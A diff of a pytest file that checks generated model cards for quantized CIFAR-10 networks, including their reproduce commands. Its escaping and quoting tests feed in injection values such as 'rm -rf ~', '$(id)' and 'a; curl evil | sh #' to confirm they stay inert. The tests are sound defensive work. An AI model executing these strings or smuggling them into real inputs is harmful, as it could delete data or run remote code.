@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import re
+import shlex
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
 import reproduce
@@ -59,6 +61,11 @@ def test_the_metadata_is_what_the_hub_indexes(folder: Path) -> None:
 def test_it_says_what_every_seed_came_to(folder: Path) -> None:
     card = (folder / "README.md").read_text()
     assert "91.20 % top-1 on the test set of CIFAR-10: 9,120 of 10,000 images" in card
+    assert "Each run reads the test set once, at its end, with the weights of its last epoch" in card
+    assert (
+        "Only the weights of seed 0 are published. The numbers of the other seeds rest on the records of their runs, "
+        "`benchmarks/results/cifar10_quant_cnv_w4a4/` of cnvzoo, and on the sha256 of their weights" in card
+    )
     for row in ("| 0 | 91.20 | 9,120 of", "| 1 | 91.40 | 9,140 of", "| 2 | 91.90 | 9,190 of"):
         assert row in card
     assert "Mean over 3 seeds: 91.50 %, standard deviation 0.36" in card  # by hand: sqrt((.09 + .01 + .16) / 2)
@@ -74,7 +81,6 @@ def test_it_has_preprocessing_recipe_size_and_limits(folder: Path) -> None:
     assert f"| {9 * convolutions + 256 * 512 + 512 * 512 + 512 * 10:,} | w4a4 |" in card
     assert f"{(folder / 'model.safetensors').stat().st_size:,} bytes" in card
     assert "weights of 4 bits (first layer 8) and activations of 4 bits" in card
-    assert "at commit `abc123`" in card
     assert "- kind cpu, threads 2\n- torch 2.15.0" in card
     assert "A graph in integers on other hardware rounds in its own way" in card
 
@@ -98,7 +104,8 @@ def test_a_float_model_of_grey_images(tmp_path: Path, make_checkpoint: Callable[
         "Images of 28x28 pixels, grey, padded with black to 32x32, scaled to [0, 1], then mean 0.1307 subtracted"
         in card
     )
-    assert "Mean over one seed: 10.00 %. The test set" in card
+    assert "Mean over one seed: 10.00 %. Each run" in card
+    assert "other seeds" not in card
     assert "quantiz" not in card
     assert "## Recipe" not in card  # none was recorded
 
@@ -128,20 +135,138 @@ def test_the_snippet_runs(
     assert re.fullmatch(r"(\d: \d+\.\d%\n){5}", capsys.readouterr().out)
 
 
-def test_the_command_to_reproduce_is_one(folder: Path, capsys: pytest.CaptureFixture) -> None:
-    program, script, *arguments = block((folder / "README.md").read_text(), "sh").split()
-    assert (program, script) == ("python", "benchmarks/reproduce.py")
-    assert arguments[arguments.index("--threads") + 1] == "2"  # as the run had, or its bits are others
-    assert reproduce.main([*arguments, "--list"]) == 0
-    assert "cifar10_quant_cnv_w4a4" in capsys.readouterr().out
-
-
-def test_the_command_leaves_out_one_thread(folder: Path) -> None:
-    # The default, and the commits of the first runs know no such option.
-    changes = {"device": {"kind": "cpu", "threads": 1}}
-    write_config(folder, read_config(folder).model_copy(update=changes))
+def card_with(folder: Path, **changes: Any) -> str:
+    """The card of the checkpoint with other facts, which are validated as those of a file."""
+    write_config(folder, CheckpointConfig(**dict(read_config(folder)) | changes))
     cnvzoo.write_card(folder)
-    assert "--threads" not in block((folder / "README.md").read_text(), "sh")
+    return (folder / "README.md").read_text()
+
+
+ENTRY = "--table cifar10 --entry cifar10_quant_cnv_w4a4"
+PINNED = {"python": "3.11.7", "torch": "2.14.1+cu130", "cnvzoo": "0.1.0", "numpy": "2.4.6", "brevitas": "0.13.4"}
+
+
+@pytest.mark.parametrize(
+    ("device", "command"),
+    [
+        (
+            {"kind": "cpu", "threads": 1},
+            f"OMP_NUM_THREADS=1 python benchmarks/reproduce.py {ENTRY} --device cpu --seeds 0 --retrain",
+        ),
+        (
+            {"kind": "cpu", "threads": 2},
+            f"OMP_NUM_THREADS=2 python benchmarks/reproduce.py {ENTRY} --device cpu --seeds 0 --retrain --threads 2",
+        ),
+        (
+            {"kind": "cuda", "name": "A GPU"},
+            f"python benchmarks/reproduce.py {ENTRY} --device cuda --seeds 0 --retrain",
+        ),
+    ],
+    ids=["one thread", "two threads", "a GPU"],
+)
+def test_the_commands_to_reproduce_it_are_complete(
+    folder: Path, device: dict[str, Any], command: str, capsys: pytest.CaptureFixture
+) -> None:
+    versions = PINNED | ({"cuda": "13.0", "cudnn": "91900"} if device["kind"] == "cuda" else {})
+    card = card_with(folder, device=device, versions=versions, commit="7e6117d" * 5)
+    checkout, install, train = block(card, "sh").splitlines()
+    assert checkout == "git checkout " + "7e6117d" * 5
+    assert install == "pip install torch==2.14.1 numpy==2.4.6 brevitas==0.13.4 --editable ."
+    assert train == command
+    words = shlex.split(train.partition("reproduce.py")[2])
+    assert reproduce.main([*words, "--list"]) == 0
+    assert "cifar10_quant_cnv_w4a4" in capsys.readouterr().out
+    listed = ", ".join(f"{name} {version}" for name, version in versions.items())
+    assert f"- {listed}\n" in card  # what pip cannot install is there in words
+
+
+def test_a_commit_that_cannot_be_checked_out(folder: Path) -> None:
+    card = card_with(folder, commit="abc123+")
+    assert "The run was made from commit `abc123` with changes that are in no commit: it cannot be checked out" in card
+    assert block(card, "sh").startswith("git checkout abc123\n")
+    assert "come out with the same sha256" not in card
+    card = card_with(folder, commit=None)
+    assert "checkout" not in block(card, "sh")
+    assert "of which the commit was not recorded" in card
+
+
+def test_an_entry_that_no_table_has_gets_no_command(folder: Path) -> None:
+    for changes in ({"dataset": "svhn"}, {"recipe": {"epochs": 3}}):
+        card = card_with(folder, **{"dataset": "cifar10", "recipe": RECIPE} | changes)
+        assert "No table of cnvzoo has this entry" in card
+        assert "```sh" not in card
+
+
+def test_what_is_known_of_recipes_and_arithmetic_is_said(folder: Path) -> None:
+    card = (folder / "README.md").read_text()
+    assert "scored on the test set" not in card
+    assert "arithmetic" not in card
+    results = [result.model_copy(update={"numerics": 2}) for result in read_config(folder).results]
+    card = card_with(folder, recipes_scored=3, numerics=2, results=results)
+    assert "3 recipes have ever been scored on the test set for this entry, this one included." in card
+    assert "\n- arithmetic version 2 (docs/numerics.md)\n" in card.partition("## Reproduce")[2]
+    assert "different versions" not in card
+    results[2] = results[2].model_copy(update={"numerics": None})
+    card = card_with(folder, recipes_scored=1, results=results)
+    assert "One recipe has ever been scored on the test set for this entry, this one included." in card
+    said = "different versions of the training arithmetic: 2 (seed 0), 2 (seed 1), an unrecorded one (seed 2)."
+    assert said in card
+
+
+EVIL = "x`; rm -rf ~ | <b> $(id) [a](https://evil) *_"
+
+
+def rendered(card: str) -> tuple[str, list[tuple[str, str]]]:
+    """The text of a card outside of code, and its blocks of code with their languages, as CommonMark has them."""
+    text, blocks, fence = [], [], ""
+    for line in card.splitlines():
+        if fence:
+            if re.fullmatch(rf" {{0,3}}{fence}`*\s*", line):
+                fence = ""
+            else:
+                blocks[-1] = (blocks[-1][0], blocks[-1][1] + line + "\n")
+        elif opening := re.fullmatch(r" {0,3}(```+)([^`]*)", line):
+            fence = opening[1]
+            blocks.append((opening[2], ""))
+        else:
+            text.append(line)
+    assert not fence
+    return "\n".join(text), blocks
+
+
+def test_nothing_in_a_config_ends_what_it_stands_in(folder: Path) -> None:
+    classes = [EVIL, "https://evil.example", "www.evil.example", "|a|", *"bcdefg"]
+    # folded at 110 columns, a plain text starts a line with its backticks; CommonMark lets those end a block
+    recipe = RECIPE | {"note": f"{'word ' * 20}``` # Another section", "list": ["````", "``` sh"], "date": "2020-01-01"}
+    device = {"kind": "cpu", "threads": 2, "name": EVIL}
+    card = card_with(folder, classes=classes, recipe=recipe, device=device)
+    text, blocks = rendered(card)
+    assert [language for language, _ in blocks] == ["python", "yaml", "sh"]
+    assert yaml.safe_load(blocks[1][1]) == recipe
+    assert shlex.split(blocks[2][1].splitlines()[-1])[-2:] == ["--threads", "2"]
+    escaped = r"x\`; rm -rf \~ \| \<b\> \$(id) \[a\](https\://evil) \*\_"
+    assert (
+        f"Classes, in the order of the outputs: {escaped}, https\\://evil.example, www\\.evil.example, \\|a\\|, b"
+        in text
+    )
+    assert f"- kind cpu, threads 2, name {escaped}\n" in text
+    assert EVIL not in text
+    assert "\n# Another section" not in text
+
+
+def test_what_no_reading_lets_through_is_quoted_all_the_same(folder: Path) -> None:
+    # as if the bounds on reading were not there
+    changes = {
+        "recipe": RECIPE | {"name": "a; curl evil | sh #"}, "commit": "`;id`", "dataset": "cifar10",
+        "versions": {"torch": "1; id", "evil": "2"}, "device": {"kind": "cpu", "threads": "1; id"},
+    }  # fmt: skip
+    config = read_config(folder).model_copy(update=changes)
+    _, blocks = rendered(render_card(config, "A net.", 10, 20))
+    checkout, install, train = map(shlex.split, blocks[-1][1].splitlines())
+    assert checkout == ["git", "checkout", "`;id`"]
+    assert install == ["pip", "install", "torch==1; id", "--editable", "."]
+    assert train[0] == "OMP_NUM_THREADS=1; id"
+    assert train[train.index("--entry") + 1] == "a; curl evil | sh #"
 
 
 @pytest.mark.parametrize("published", sorted(HUB.glob("*/config.json")), ids=lambda path: path.parent.name)
